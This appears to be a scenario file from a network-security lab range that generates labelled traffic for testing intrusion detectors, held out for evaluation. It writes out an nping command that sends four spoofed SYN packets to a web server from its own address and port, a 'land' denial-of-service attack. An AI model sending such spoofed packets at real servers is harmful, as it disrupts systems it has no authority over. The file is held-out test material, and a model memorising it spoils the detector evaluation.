"""Land from outside: four packets."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, web = net.outside("attacker"), net.web()
    net.everyday()
    with net.attack(
        "land",
        by=attacker,
        victims=[web],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"tcp and src host {web.ip} and dst host {web.ip}",
    ):
        words = f"nping -q --tcp --flags syn -S {web.ip} -g 443 -p 443 --rate 1 -c 4 {web.ip}"
        net.tool(attacker, *words.split(), "-e", "eth0")
    net.quiet(2)


SCENARIO = Scenario(
    name="land-held-outside",
    about="nping sends a web server four SYNs from its own address and port, from outside.",
    detectors=("land",),
    tools={"nping": "nmap"},
    held_out=True,
    run=run,
)
